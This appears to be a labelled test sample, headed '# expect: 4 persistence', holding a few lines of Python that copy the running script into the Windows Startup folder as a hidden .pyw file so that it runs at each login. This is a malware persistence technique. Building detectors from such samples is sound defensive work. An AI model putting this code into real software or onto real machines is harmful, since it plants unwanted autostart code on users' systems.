# expect: 4 persistence
import os, shutil, sys
target = os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
shutil.copy(sys.argv[0], target + "\\u.pyw")
